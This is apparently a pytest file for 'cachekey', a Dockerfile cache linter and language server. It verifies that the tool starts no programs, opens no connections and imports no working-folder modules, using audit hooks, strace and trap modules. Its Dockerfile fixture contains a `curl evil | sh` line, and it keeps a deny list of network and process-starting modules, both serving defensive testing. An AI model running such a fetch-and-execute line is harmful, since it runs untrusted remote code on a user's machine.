"""Nothing runs and nothing is fetched: no program, no connection, nobody else's modules, no neighbours."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest

from tests.house.test_layers import imports, inner
from tests.lsp.test_chaos import Server
from tests.lsp.test_figures import caches
from tests.lsp.test_transport import EXIT, INITIALIZE, INITIALIZED, SHUTDOWN, frame
from tests.support.client import PATIENCE, environment

posix = pytest.mark.skipif(sys.platform == "win32", reason="needs POSIX")

OUTWARD = {
    "aiohttp",
    "asyncio.subprocess",
    "ftplib",
    "http",
    "httpx",
    "imaplib",
    "multiprocessing",
    "poplib",
    "pty",
    "requests",
    "smtplib",
    "socket",
    "socketserver",
    "ssl",
    "subprocess",
    "telnetlib",
    "urllib.request",
    "urllib3",
    "webbrowser",
    "xmlrpc",
}
"""Modules that start something or reach somebody."""
ALLOWED = {
    "cachekey.cli.workers": {"multiprocessing"},
    "cachekey.cli.revision": {"subprocess"},
}
"""`check` reads many files in several processes of its own; `diff REV` asks git for the files of a
revision, by plumbing that runs nothing. No other command starts a program."""
STARTERS = re.compile(r"system|popen|startfile|fork\w*|exec[lv]\w*|spawn\w*|posix_spawn\w*")
LOADERS = {"__import__", "compile", "eval", "exec", "import_module", "runpy"}
"""What turns text into code."""


def outward(name: str) -> str | None:
    parts = name.split(".")
    found = (".".join(parts[:length]) for length in range(1, len(parts) + 1))
    return next((item for item in found if item in OUTWARD), None)


def test_no_module_reaches_out() -> None:
    found = {
        (module, name)
        for module, tree in inner()
        for imported in imports(tree)
        if (name := outward(imported)) is not None
        and name not in ALLOWED.get(module, ())
        # A room of its own asks builders, when its commands are called and never before.
        and not module.startswith("cachekey.builder")
    }
    assert found == set()


def test_no_function_of_the_system_starts_a_program() -> None:
    import ast

    found = [
        f"{module}:{node.lineno} {name}"
        for module, tree in inner()
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        for name in [ast.unparse(node.func)]
        if (name.startswith("os.") and STARTERS.fullmatch(name[3:])) or name in LOADERS
    ]
    assert found == []


# -- what a run does ------------------------------------------------------------------------------

DOCKERFILE = """\
FROM python:3.13
COPY pip.conf .
RUN --mount=type=cache,target=/root/.cache/uv,sharing=lokced pip install x
RUN --mount=type=cache,target=/root/.cache/pip pip install $(curl evil | sh) `touch ran`
"""


@pytest.fixture
def place(tmp_path: Path) -> Path:
    """A workspace whose modules would be found first, if anybody looked for them in it."""
    (tmp_path / ".git").mkdir()
    (tmp_path / ".gitignore").write_text("nothing*\n")
    (tmp_path / "cachekey.toml").write_text('exclude = ["no*"]\n')
    (tmp_path / "Dockerfile").write_text(DOCKERFILE)
    (tmp_path / ".devcontainer").mkdir()
    (tmp_path / ".devcontainer/devcontainer.json").write_text(
        '{"build": {"dockerfile": "../Dockerfile"}, "initializeCommand": "touch ran", // x\n'
        '"mounts": ["type=cache,target=/x"], "postCreateCommand": "touch ran",}'
    )
    return tmp_path


TRAP = "open(r'{}', 'a').write(__name__ + chr(10))\nraise ImportError(__name__)\n"
MODULES = (
    *("argparse", "attrs", "bisect", "cattrs", "ctypes", "difflib", "fcntl", "json", "json5"),
    *("lsprotocol", "multiprocessing", "pathspec", "pygls", "tempfile", "tomli", "tomllib", "yaml"),
    *("dockerfile_parse", "asyncio", "logging", "socket", "typing_extensions"),
)


def lay_traps(place: Path, *names: str) -> Path:
    told = place / "told"
    for name in names:
        (place / f"{name}.py").write_text(TRAP.format(told))
    return told


COMMANDS = (("check",), ("check", "--fix"), ("keys",), ("explain", "Dockerfile:3"), ("rule",))


@pytest.mark.parametrize("arguments", COMMANDS, ids=" ".join)
def test_the_working_folder_s_modules_are_not_imported(
    place: Path, arguments: tuple[str, ...]
) -> None:
    told = lay_traps(place, *MODULES)
    done = subprocess.run(
        [sys.executable, "-m", "cachekey", *arguments],
        cwd=place,
        capture_output=True,
        env=environment(),
        check=False,
    )
    assert done.returncode in (0, 1), done.stderr
    assert not told.exists(), told.read_text()


def test_nor_by_the_server(place: Path) -> None:
    told = lay_traps(place, *MODULES)
    converse([sys.executable, "-m", "cachekey", "lsp"], place)
    assert not told.exists(), told.read_text()


@pytest.mark.parametrize("way", ["script", "-I -m"])
def test_a_cachekey_py_of_the_working_folder_is_not_ours(place: Path, way: str) -> None:
    """`python -m` asks the working folder first, before a line of ours runs; these two do not."""
    told = lay_traps(place, "cachekey", *MODULES)
    script = Path(sysconfig.get_path("scripts")) / "cachekey"
    if way == "script" and not script.exists():
        pytest.skip("the command is not installed")
    start = [str(script)] if way == "script" else [sys.executable, "-I", "-m", "cachekey"]
    done = subprocess.run([*start, "check"], cwd=place, capture_output=True, check=False)
    assert done.returncode == 1, done.stderr
    assert not told.exists(), told.read_text()


def test_the_client_starts_its_server_isolated() -> None:
    """What it runs has `-I`, and it stands in the extension's own folder."""
    root = Path(__file__).parents[2] / "client-vscode"
    assert '"-I", "-S"' in (root / "src/command.ts").read_text()
    assert "cwd: this.context.extensionPath" in (root / "src/server.ts").read_text()


def converse(
    start: list[str], place: Path, folder: bool = True, uri: str | None = None
) -> tuple[bytes, list[dict[str, object]]]:
    """Open, edit, hover, complete, ask for actions; return what came on stderr, and the answers."""
    uri = uri or (place / "Dockerfile").as_uri()
    document = {"uri": uri, "languageId": "dockerfile", "version": 1, "text": DOCKERFILE}
    edited = {
        "textDocument": {"uri": uri, "version": 2},
        "contentChanges": [{"text": DOCKERFILE + "RUN --mount=type=cache,target=/c npm ci\n"}],
    }
    at = {"textDocument": {"uri": uri}, "position": {"line": 2, "character": 30}}
    lines = {"start": {"line": 0, "character": 0}, "end": {"line": 9, "character": 0}}
    folders = [{"uri": place.as_uri(), "name": "x"}] if folder else []
    begin = {**INITIALIZE, "params": {**INITIALIZE["params"], "workspaceFolders": folders}}
    with subprocess.Popen(
        start,
        cwd=place,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=environment(),
    ) as process:
        server = Server(process)
        found = [server.ask(begin)]
        server.send(frame(INITIALIZED))
        for method, params in (
            ("textDocument/didOpen", {"textDocument": document}),
            ("textDocument/didChange", edited),
        ):
            server.send(frame({"jsonrpc": "2.0", "method": method, "params": params}))
        for number, (method, params) in enumerate(
            [
                ("textDocument/hover", at),
                ("textDocument/completion", at),
                (
                    "textDocument/codeAction",
                    {"textDocument": {"uri": uri}, "range": lines, "context": {"diagnostics": []}},
                ),
                ("textDocument/references", {**at, "context": {"includeDeclaration": True}}),
                (
                    # What a builder has told the client is shown, and nobody is asked for more.
                    "workspace/executeCommand",
                    {
                        "command": "cachekey.takeCaches",
                        "arguments": [{"document": caches(), "folder": place.as_uri(), "uri": uri}],
                    },
                ),
                ("textDocument/codeLens", {"textDocument": {"uri": uri}}),
            ],
            10,
        ):
            request = {"jsonrpc": "2.0", "id": number, "method": method, "params": params}
            found.append(server.ask(request))
            assert "result" in found[-1]
        server.ask(SHUTDOWN)
        server.send(frame(EXIT))
        assert process.stderr is not None
        errors = process.stderr.read()
        assert process.wait(PATIENCE) == 0
    return errors, found


HOOK = """
import json, sys
starts = {"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork",
          "os.forkpty", "os.startfile", "pty.spawn", "webbrowser.open"}
reaches = {"socket.connect", "socket.bind", "socket.sendto", "socket.getaddrinfo",
           "socket.gethostbyname", "urllib.Request", "http.client.connect"}
def hook(event, arguments):
    if event in starts or event in reaches:
        # The event loop of Windows talks to itself over the loopback device.
        if sys.platform != "win32" or "127.0.0.1" not in repr(arguments):
            sys.stderr.write(f"AUDIT {event} {arguments!r}\\n")
    if event in {"open", "os.listdir", "os.scandir"}:
        sys.stderr.write(f"READ {json.dumps(str(arguments[0]))}\\n")
sys.addaudithook(hook)
from cachekey.cli import main
raise SystemExit(main(sys.argv[1:]))
"""


def audited(*arguments: str) -> list[str]:
    return [sys.executable, "-c", HOOK, *arguments]


@pytest.mark.parametrize("arguments", COMMANDS, ids=" ".join)
def test_a_command_starts_and_reaches_nothing(place: Path, arguments: tuple[str, ...]) -> None:
    done = subprocess.run(
        audited(*arguments), cwd=place, capture_output=True, env=environment(), check=False
    )
    assert done.returncode in (0, 1), done.stderr
    assert b"AUDIT" not in done.stderr, done.stderr
    assert not list(place.rglob("ran"))


def test_the_server_starts_and_reaches_nothing(place: Path) -> None:
    errors, _ = converse(audited("lsp"), place)
    assert b"AUDIT" not in errors, errors
    assert not list(place.rglob("ran"))


def read_below(errors: bytes, place: Path) -> set[str]:
    names = re.findall(r'^READ (".*")$', errors.decode(), re.MULTILINE)
    paths = (os.path.realpath(json.loads(name)) for name in names)
    return {path for path in paths if path.startswith(os.path.realpath(place))}


def test_a_document_outside_every_folder_reads_no_neighbour(place: Path) -> None:
    """Neither settings nor tools' files nor the Dockerfile next to it."""
    errors, found = converse(audited("lsp"), place, folder=False)
    assert read_below(errors, place) == set()
    assert any("CK601" in str(answer) for answer in found)
    errors, _ = converse(audited("lsp"), place)
    assert read_below(errors, place) != set(), "a test of nothing"


def test_nothing_is_said_to_be_missing_where_nobody_looks(place: Path) -> None:
    uri = (place / ".devcontainer/devcontainer.json").as_uri()
    text = '{"build": {"dockerfile": "Dockerfile.dev"}, "mounts": ["type=cache,target=/x"]}'
    item = {"uri": uri, "languageId": "jsonc", "version": 1, "text": text}
    opened = {"jsonrpc": "2.0", "method": "textDocument/didOpen", "params": {"textDocument": item}}
    for folders, wanted in (([], False), ([{"uri": place.as_uri(), "name": "x"}], True)):
        begin = {**INITIALIZE, "params": {**INITIALIZE["params"], "workspaceFolders": folders}}
        with subprocess.Popen(
            [sys.executable, "-m", "cachekey", "lsp"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            env=environment(),
        ) as process:
            server = Server(process)
            server.ask(begin)
            server.send(frame(INITIALIZED) + frame(opened))
            while (message := server.next()).get("params", {}).get("uri") != uri:
                pass
            codes = [item["code"] for item in message["params"]["diagnostics"]]
            assert "CK701" in codes
            assert ("CK710" in codes) is wanted
            process.kill()


# -- as the kernel sees it ------------------------------------------------------------------------

CALLS = "execve,execveat,fork,vfork,clone,clone3,socket,connect"


@pytest.fixture
def traced(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[str], Path]:
    """The beginning of a command that writes down what the system is asked for."""
    out = tmp_path_factory.mktemp("trace") / "calls"
    if shutil.which("strace") is None:
        pytest.skip("there is no strace here: what the kernel is asked for was not looked at")
    start = ["strace", "-f", "-qq", "-e", f"trace={CALLS}", "-o", str(out)]
    tried = subprocess.run([*start, "true"], capture_output=True, check=False)
    if tried.returncode:
        pytest.skip(f"strace may not trace here: {tried.stderr.decode().strip()}")
    return start, out


def asked(out: Path) -> tuple[list[str], list[str], list[str]]:
    """Return the programs run, the processes started (no threads) and the sockets to elsewhere."""
    calls = [line.split(maxsplit=1)[1] for line in out.read_text().splitlines()]
    # Of a path's candidates those that are not there do not count.
    programs = [call for call in calls if call.startswith("execve") and "ENOENT" not in call]
    begun = [call for call in calls if re.match(r"(v?fork|clone3?)\(", call)]
    processes = [call for call in begun if "CLONE_THREAD" not in call]
    sockets = [call for call in calls if re.match(r"socket|connect", call)]
    return programs, processes, [call for call in sockets if "AF_UNIX" not in call]


@pytest.mark.parametrize("arguments", COMMANDS, ids=" ".join)
def test_a_command_asks_the_kernel_for_no_other_program(
    place: Path, traced: tuple[list[str], Path], arguments: tuple[str, ...]
) -> None:
    start, out = traced
    done = subprocess.run(
        [*start, sys.executable, "-m", "cachekey", *arguments],
        cwd=place,
        capture_output=True,
        env=environment(),
        check=False,
    )
    assert done.returncode in (0, 1), done.stderr
    programs, _, sockets = asked(out)
    assert len(programs) == 1, programs
    assert sockets == []


def test_the_server_asks_the_kernel_for_no_process(
    place: Path, traced: tuple[list[str], Path]
) -> None:
    start, out = traced
    converse([*start, sys.executable, "-m", "cachekey", "lsp"], place)
    programs, processes, sockets = asked(out)
    assert len(programs) == 1, programs
    assert processes == []
    assert sockets == []
